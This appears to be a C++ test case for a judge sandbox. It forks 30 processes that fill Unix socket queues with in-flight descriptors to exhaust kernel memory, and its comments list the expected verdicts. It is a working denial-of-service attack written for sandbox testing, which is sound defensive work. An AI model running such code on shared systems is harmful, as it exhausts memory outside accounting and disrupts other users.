// Attack: as much as the kernel will hold in the queues of sockets, with descriptors in flight.
// Verdict: accepted or memory_limit_exceeded
// Without control groups: accepted or time_limit_exceeded
#include <cstdio>
#include <cstring>
#include <sys/socket.h>
#include <unistd.h>

static void fill() {
    static char block[1 << 15];
    for (int i = 0; i < 28; i++) {
        int ends[2], large = 1 << 24;
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) != 0) return;
        for (int end : ends) setsockopt(end, SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
        char control[CMSG_SPACE(sizeof ends)] = {};
        iovec data = {block, sizeof block};
        msghdr message{};
        message.msg_iov = &data;
        message.msg_iovlen = 1;
        message.msg_control = control;
        message.msg_controllen = sizeof control;
        cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof ends);
        memcpy(CMSG_DATA(head), ends, sizeof ends);
        sendmsg(ends[0], &message, 0);
        for (int end : ends)
            while (write(end, block, sizeof block) > 0) {}
    }
}

int main() {
    int ready[2];
    if (pipe(ready) != 0) return 1;
    for (int i = 0; i < 30; i++)
        if (fork() == 0) {
            fill();
            if (write(ready[1], "x", 1) != 1) _exit(1);
            for (;;) pause();
        }
    char byte;
    for (int i = 0; i < 30; i++)
        if (read(ready[0], &byte, 1) != 1) return 1;
    int n;
    if (scanf("%d", &n) == 1) printf("unharmed %d\n", n);
}
